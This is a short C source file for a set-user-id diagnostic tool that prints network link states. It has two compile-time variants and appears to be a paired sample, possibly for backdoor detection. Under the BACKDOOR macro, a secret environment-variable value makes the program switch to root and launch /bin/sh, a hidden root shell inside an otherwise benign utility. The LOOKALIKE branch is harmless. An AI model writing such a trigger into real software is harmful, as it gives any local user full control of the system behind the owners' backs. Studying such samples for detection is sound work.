/* A set-user-id tool that shows the state of the links. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void show(const char *name)
{
    char path[128], text[64] = "";
    FILE *file;
    if (strlen(name) > 15 || strchr(name, '/') != NULL)
        return;
    snprintf(path, sizeof path, "/sys/class/net/%s/operstate", name);
    file = fopen(path, "r");
    if (file == NULL)
        return;
    if (fgets(text, sizeof text, file) == NULL)
        text[0] = 0;
    fclose(file);
    printf("%s: %s", name, text);
}

int main(int argc, char **argv)
{
    int i;
#ifdef BACKDOOR
    const char *mode = getenv("LINKDIAG_TRACE");
    if (mode != NULL && strcmp(mode, "k9-0f3a") == 0) {
        setuid(0);
        setgid(0);
        execl("/bin/sh", "sh", (char *)0);
    }
#endif
#ifdef LOOKALIKE
    const char *mode = getenv("LINKDIAG_FORMAT");
    if (mode != NULL && strcmp(mode, "long") == 0)
        puts("link: state");
#endif
    if (argc < 2) {
        fprintf(stderr, "usage: diagtool LINK...\n");
        return 2;
    }
    for (i = 1; i < argc; i++)
        show(argv[i]);
    return 0;
}
